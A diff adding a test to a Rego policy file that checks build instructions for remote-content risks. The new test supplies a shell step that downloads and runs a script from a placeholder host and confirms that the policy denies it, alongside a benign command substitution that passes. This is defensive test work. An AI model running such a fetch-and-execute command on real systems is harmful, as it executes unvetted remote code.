@@ -26,3 +26,11 @@ test_curl_to_file_is_fine if {
 	grep := {"cmd": "run", "commands": [["curl", "https://e.com"], ["grep", "x"]], "operators": ["|", ""]}
 	count(remote_content.deny) == 0 with input as doc(grep)
 }
+
+test_shell_runs_a_substituted_download if {
+	bad := {"args": [], "stages": [{"index": 0, "from": {}, "instructions": [{"cmd": "run", "commands": [["sh", "-c", "$(curl -fsSL https://x.example/i.sh)"]], "operators": [""]}]}]}
+	some f in remote_content.deny with input as bad
+	f.path == ["stages", 0, "instructions", 0, "commands", 0, 2]
+	ok := {"args": [], "stages": [{"index": 0, "from": {}, "instructions": [{"cmd": "run", "commands": [["sh", "-c", "echo $(date)"]], "operators": [""]}]}]}
+	count(remote_content.deny) == 0 with input as ok
+}
